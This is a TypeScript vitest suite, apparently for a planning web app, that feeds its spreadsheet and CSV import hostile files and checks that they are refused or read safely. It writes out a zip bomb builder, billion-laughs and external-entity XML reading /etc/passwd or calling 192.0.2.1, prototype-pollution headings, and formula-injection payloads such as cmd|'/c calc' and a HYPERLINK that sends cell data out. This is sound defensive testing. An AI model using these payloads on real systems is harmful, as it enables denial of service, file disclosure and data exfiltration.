// Files made to do harm by their size or their shape, given to the built page: each is refused in words or read within
// its limits, the page goes on, and the plan is as it was.
import { crc32, deflateRawSync } from 'node:zlib';
import { strToU8, zipSync } from 'fflate';
import { beforeAll, describe, expect, it } from 'vitest';
import { deskViews } from '../../components/desk/views.js';
import type { PlanDocument } from '../../src/model/index.js';
import { unpack } from '../../src/tables/workbook/archive.js';
import { workbookOf } from '../../src/tables/workbook/write-workbook.js';
import { guardedPage, type Desk } from './guarded-page.js';

const { open } = guardedPage();
const MB = 1024 * 1024;
const sheet = 'xl/worksheets/sheet1.xml';

const columns = ['window', 'title', 'start', 'end', 'status'];
const night = ['H1', 'A night', '2027-03-02 23:00', '2027-03-03 05:00', 'confirmed'];
const plain = (): Record<string, Uint8Array> =>
  Object.fromEntries(unpack(workbookOf([{ name: 'windows', columns, rows: [night] }]), () => true));

/** One part of a zip archive that says it unpacks to `size`, its packed bytes given. */
function archive(
  parts: Readonly<Record<string, Uint8Array>>,
  big: { name: string; packed: Uint8Array; size: number },
): Uint8Array {
  const entries = [
    ...Object.entries(parts).map(([name, bytes]) => ({
      name,
      packed: new Uint8Array(deflateRawSync(bytes)),
      size: bytes.length,
      crc: crc32(bytes),
    })),
    { ...big, crc: 0 },
  ];
  const pieces: Buffer[] = [];
  const directory: Buffer[] = [];
  let at = 0;
  for (const { name, packed, size, crc } of entries) {
    const head = Buffer.alloc(30);
    head.writeUInt32LE(0x04034b50, 0);
    head.writeUInt16LE(20, 4);
    head.writeUInt16LE(8, 8);
    head.writeUInt32LE(crc, 14);
    head.writeUInt32LE(packed.length, 18);
    head.writeUInt32LE(size, 22);
    head.writeUInt16LE(name.length, 26);
    const line = Buffer.alloc(46);
    line.writeUInt32LE(0x02014b50, 0);
    line.writeUInt16LE(20, 4);
    line.writeUInt16LE(20, 6);
    head.copy(line, 8, 6, 30);
    line.writeUInt32LE(at, 42);
    directory.push(line, Buffer.from(name));
    pieces.push(head, Buffer.from(name), Buffer.from(packed));
    at += 30 + name.length + packed.length;
  }
  const list = Buffer.concat(directory);
  const last = Buffer.alloc(22);
  last.writeUInt32LE(0x06054b50, 0);
  last.writeUInt16LE(entries.length, 8);
  last.writeUInt16LE(entries.length, 10);
  last.writeUInt32LE(list.length, 12);
  last.writeUInt32LE(at, 16);
  return Buffer.concat([...pieces, list, last]);
}

/** Packed bytes that unpack to 4 GB of blanks: blocks that end on a byte, put behind one another, and an end. */
function fourGigabytes(): Uint8Array {
  const block = deflateRawSync(Buffer.alloc(64 * MB, ' '), { finishFlush: 3 });
  const end = deflateRawSync(Buffer.alloc(0));
  return Buffer.concat([...Array.from({ length: 64 }, () => block), end]);
}

const withSheet = (xml: string): Uint8Array => zipSync({ ...plain(), [sheet]: strToU8(xml) });
const sheetOf = (cells: string, before = ''): string =>
  `<?xml version="1.0"?>${before}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${cells}</sheetData></worksheet>`;
const textCell = (at: string, text: string): string =>
  `<c r="${at}" t="inlineStr"><is><t>${text}</t></is></c>`;

describe('a file made to do harm, looked at in the built page', () => {
  let desk: Desk;
  let before: PlanDocument;
  beforeAll(async () => {
    desk = await open();
    before = await desk.document();
  });

  async function expectUntouched(): Promise<void> {
    await desk.expectAlive(['windows', 'files']);
    expect(await desk.document()).toEqual(before);
  }

  it('that unpacks to 4 GB is refused, whatever size it says it has', async () => {
    const packed = fourGigabytes();
    expect(packed.length).toBeLessThan(5 * MB);
    for (const [name, size, why] of [
      ['honest.xlsx', 0xffffffff, 'unpacks to 4096 MB'],
      ['understated.xlsx', 60 * MB, 'holds more than it says'],
      ['tiny.xlsx', 1000, 'holds more than it says'],
    ] as const) {
      const { [sheet]: _sheet, ...rest } = plain();
      await desk.give(name, archive(rest, { name: sheet, packed, size }));
      expect(await desk.said()).toContain(why);
    }
    await expectUntouched();
  });

  it('with entities that multiply, or that name another file, is refused or read without them', async () => {
    const lol = Array.from(
      { length: 9 },
      (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`,
    ).join('');
    const bomb = `<!DOCTYPE w [<!ENTITY l0 "lol">${lol}]>`;
    const outside = (where: string): string => `<!DOCTYPE w [<!ENTITY x SYSTEM "${where}">]>`;
    for (const [name, before_, entity] of [
      ['multiply.xlsx', bomb, '&l9;'],
      ['file.xlsx', outside('file:///etc/passwd'), '&x;'],
      ['fetch.xlsx', outside('http://192.0.2.1/x'), '&x;'],
    ] as const) {
      const row = `<row r="1">${textCell('A1', 'window')}${textCell('B1', entity)}</row>`;
      await desk.give(name, withSheet(sheetOf(row, before_)));
      const said = await desk.said();
      expect(said).not.toContain('lollol');
      expect(said).not.toContain('root:');
    }
    await expectUntouched();
  });

  it.each([
    ['of one line of 100 MB', () => Buffer.alloc(100 * MB, 'x'), 'larger than 64 MB'],
    ['of one line of 60 MB', () => Buffer.alloc(60 * MB, 'x'), ''],
    ['of 30 million blank cells', () => Buffer.alloc(30_000_000, ','), 'at most 2000 columns'],
    ['of 3,000 columns', () => `window${',x'.repeat(3000)}\n`, 'at most 2000 columns are read'],
    ['of 2,000 columns', () => `window${',x'.repeat(1999)}\n${'1,'.repeat(1999)}\n`, ''],
    ['of 30 million blank lines', () => Buffer.alloc(30_000_000, '\n'), 'empty'],
    ['of 300,000 rows', () => `window,start\n${'x,\n'.repeat(300_000)}`, 'at most 250000 are read'],
    ['of 100,000 bad rows', () => `window,start,end\n${'x,y,z\n'.repeat(100_000)}`, ''],
    ['of 200,000 open quotes', () => `window,start,end\n${'"x,y\n'.repeat(200_000)}`, ''],
  ])('%s is told or read within its limits, and can be left', async (_what, content, why) => {
    await desk.give('large.csv', content());
    expect(await desk.said()).toContain(why);
    await expectUntouched();
  });

  it('leaves every view as it was', async () => {
    await desk.expectAlive(deskViews);
    expect(await desk.document()).toEqual(before);
  });
});

describe('a file made to do harm, taken into the plan in the built page', () => {
  it('with headings and cells that name what every object has stays a table, there and back', async () => {
    const desk = await open();
    const odd = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'prototype', 'valueOf'];
    const cells = ['{"polluted":1}', '__proto__', 'constructor', '', 'polluted', '0'];
    await desk.give(
      'odd.xlsx',
      workbookOf([
        { name: 'windows', columns: [...columns, ...odd], rows: [[...night, ...cells]] },
      ]),
    );
    await desk.take();
    const table = await desk.table('windows');
    expect(table.columns).toEqual([...columns, ...odd]);
    expect(table.rows).toEqual([[...night, ...cells]]);
    await desk.saved();
    await desk.expectAlive(deskViews);
    await desk.reload();
    expect(await desk.table('windows')).toEqual(table);
    const [book] = await desk.saves('Tables as a workbook', 1);
    await desk.give('back.xlsx', book!.bytes);
    await desk.take();
    expect((await desk.table('windows')).rows).toEqual(table.rows);
    expect((await desk.table('windows')).columns).toEqual(table.columns);
    await desk.expectAlive(deskViews);
    await desk.close();
  });

  it('with formulas brings only their text, and leaves as text that no spreadsheet works out', async () => {
    const desk = await open();
    const payloads = [
      '=HYPERLINK("http://192.0.2.1/?"&A1,"x")',
      '=cmd|"/c calc"!A1',
      '@SUM(1+1)*cmd|"/c calc"!A1',
      '+1+cmd|"/c calc"!A1',
      '-1+1|"x"',
      '\t=1+1',
      '\r=1+1',
      '＝1+1',
    ];
    const rows = payloads.map((text, at) => [`F${at}`, text, ...night.slice(2)]);
    await desk.give('text.xlsx', workbookOf([{ name: 'windows', columns, rows }]));
    await desk.take();
    expect((await desk.table('windows')).rows.map((row) => row[1])).toEqual(payloads);
    const csvs = await desk.saves('Tables as CSV', 2);
    const csv = csvs
      .map((file) => new TextDecoder().decode(file.bytes))
      .find((text) => text.includes('F0'))!;
    expect(csv).not.toMatch(/(?:^|[,\t\r\n"])[=+@＝]/m);
    expect(csv).not.toMatch(/(?:^|[,"])-1\+/m);
    // A real formula with no stored value brings nothing that is worked out.
    const formula = `<row r="1">${columns.map((column, at) => textCell(`${'ABCDE'[at]}1`, column)).join('')}</row><row r="2">${textCell('A2', 'F1')}<c r="B2"><f>WEBSERVICE("http://192.0.2.1")</f></c>${night
      .slice(2)
      .map((text, at) => textCell(`${'CDE'[at]}2`, text))
      .join('')}</row>`;
    await desk.give('formula.xlsx', withSheet(sheetOf(formula)));
    await desk.take();
    expect((await desk.table('windows')).rows[0]![1]).not.toMatch(/^[^=]/);
    await desk.expectAlive(deskViews);
    await desk.close();
  });

  it('with a cell of 10 MB is read, the cell told and kept, and the page goes on', async () => {
    const desk = await open();
    const long = 'x'.repeat(10 * MB);
    const rows = [
      [...night.slice(0, 1), long, ...night.slice(2)],
      ['H2', 'B', ...night.slice(2)],
    ];
    await desk.give('long.csv', [columns, ...rows].map((item) => item.join(',')).join('\n'));
    await desk.take();
    const kept = await desk.page.evaluate(
      () => document.querySelector('possession-desk')!.document!.tables.windows.rows[0]![1]!.length,
    );
    expect(kept).toBe(long.length);
    await desk.expectAlive(deskViews);
    await desk.saved();
    await desk.reload();
    expect((await desk.table('windows')).rows[0]![1]!.length).toBe(long.length);
    await desk.close();
  });
});
